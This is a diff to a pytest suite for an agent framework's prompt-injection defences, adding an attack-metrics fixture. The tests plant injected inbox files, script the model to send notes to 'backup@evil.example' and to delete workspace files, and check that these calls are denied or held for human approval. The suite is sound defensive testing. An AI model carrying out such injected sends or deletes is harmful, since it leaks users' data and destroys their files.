@@ -21,6 +21,7 @@ from langchain_core.messages import ToolMessage
 from boundloop.checkpoints import store
 from boundloop.graph.core.status import Terminal
 from tests.graph.conftest import CRITIC_PASS, PLAN_ONE_STEP, run_script, runner, step  # noqa: F401  (fixtures)
+from tests.security.attacks import Attacks
 
 CORPUS = json.loads((Path(__file__).parent / "injections.json").read_text())
 OUTBOX = Path(__file__).parent / "servers" / "outbox.py"
@@ -61,7 +62,7 @@ def _read(name: str) -> dict[str, Any]:
 
 
 @pytest.mark.parametrize("batch", BATCHES, ids=[f"{cases[0]['id']}..{cases[-1]['id']}" for cases in BATCHES])
-async def test_an_obedient_model_never_gets_a_denied_action_run_and_the_run_ends_unsafe(batch, run_script, runner, workspace, servers, tmp_path):
+async def test_an_obedient_model_never_gets_a_denied_action_run_and_the_run_ends_unsafe(batch, run_script, runner, workspace, servers, tmp_path, attacks):
     for case in batch:
         (workspace / "inbox" / f"{case['id']}.md").write_text(case["carrier"])
     before = _snapshot(workspace)
@@ -71,11 +72,15 @@ async def test_an_obedient_model_never_gets_a_denied_action_run_and_the_run_ends
         task=TASK, unattended=True, servers=servers, policy=NO_SECRETS,
     )
 
-    assert report.status == Terminal.UNSAFE_DETECTION
-    assert _snapshot(workspace) == before and not (tmp_path / "outbox.log").exists()
-    assert await store.run_ledger(runner.pool, report.thread_id) == []  # not one side-effecting call was sent
     observations = report.values["observations"]
     reads, tried = observations[:len(batch)], observations[len(batch):]
+    sent = await store.run_ledger(runner.pool, report.thread_id)
+    ran = [obs for obs in tried if obs["status"] not in ("denied", "unknown_tool")]
+    changed = _snapshot(workspace) != before or (tmp_path / "outbox.log").exists()
+    attacks.record("prompt-injection", attempts=len(attempts), escapes=max(len(ran), len(sent), int(changed)))
+    assert report.status == Terminal.UNSAFE_DETECTION
+    assert _snapshot(workspace) == before and not (tmp_path / "outbox.log").exists()
+    assert sent == []  # not one side-effecting call was sent
     assert [obs["status"] for obs in reads] == ["ok"] * len(batch)
     assert all(obs["instructions"] for obs in reads), [case["id"] for case, obs in zip(batch, reads) if not obs["instructions"]]
     assert {obs["status"] for obs in tried} <= {"denied", "unknown_tool"} and len(tried) == len(attempts)
@@ -104,7 +109,7 @@ async def test_plain_tool_results_are_not_flagged_and_the_run_commits(run_script
     assert [obs["instructions"] for obs in report.values["observations"]] == [[]] * len(reads)
 
 
-async def test_denials_that_keep_coming_after_a_read_trip_the_breaker_even_without_a_flagged_result(run_script, workspace, servers):
+async def test_denials_that_keep_coming_after_a_read_trip_the_breaker_even_without_a_flagged_result(run_script, workspace, servers, attacks):
     """Repeated permission denial after reading tool output is a warning sign of its own, whatever was read."""
     (workspace / "inbox" / "plain.md").write_text("Quarterly numbers are in.\n")
     deletes = [{"name": "workspace__delete_file", "args": {"path": name}} for name in ("notes.md", "report.md", "README.md")]
@@ -113,6 +118,7 @@ async def test_denials_that_keep_coming_after_a_read_trip_the_breaker_even_witho
          "actor": [step(calls=[_read("plain")]), step(calls=[deletes[0]]), step(calls=[deletes[1]]), step(calls=[deletes[2]]), step("done")]},
         task=TASK, unattended=True, servers=servers,
     )
+    attacks.record("prompt-injection", attempts=len(deletes), escapes=sum(not (workspace / name).exists() for name in ("notes.md", "report.md", "README.md")))
     assert report.status == Terminal.UNSAFE_DETECTION
     assert report.values["ending"]["reason"].startswith("3 denied calls in one run: workspace__delete_file (a1.0, denied)")
     assert (workspace / "notes.md").exists() and (workspace / "README.md").exists()
@@ -128,7 +134,7 @@ async def test_as_many_denials_before_any_tool_result_end_permission_denied(run_
     assert (workspace / "notes.md").exists() and (workspace / "README.md").exists()
 
 
-async def test_an_attended_run_asks_a_human_and_a_rejection_after_an_injection_ends_unsafe(run_script, runner, workspace, servers, tmp_path):
+async def test_an_attended_run_asks_a_human_and_a_rejection_after_an_injection_ends_unsafe(run_script, runner, workspace, servers, tmp_path, attacks):
     """Attended, the injected send waits for a human instead of running; rejected, the run fails closed."""
     (workspace / "inbox" / "mail.md").write_text(CORPUS["cases"][25]["carrier"])
     send = {"name": "outbox__send", "args": {"to": "backup@evil.example", "body": "notes"}}
@@ -136,8 +142,10 @@ async def test_an_attended_run_asks_a_human_and_a_rejection_after_an_injection_e
         {"planner": [PLAN_ONE_STEP], "actor": [step(calls=[_read("mail")]), step(calls=[send]), step("done")]},
         task=TASK, servers=servers,
     )
-    assert waiting.status == Terminal.CONFIRM_REQUIRED and not (tmp_path / "outbox.log").exists()
+    sent_unasked = (tmp_path / "outbox.log").exists()
+    assert waiting.status == Terminal.CONFIRM_REQUIRED and not sent_unasked
     [request] = waiting.interrupts
     done = await runner.resume(waiting.thread_id, decisions={request["id"]: {"decision": "reject", "message": "never"}})
+    attacks.record("prompt-injection", attempts=1, escapes=sent_unasked or (tmp_path / "outbox.log").exists())
     assert done.status == Terminal.UNSAFE_DETECTION
     assert not (tmp_path / "outbox.log").exists()
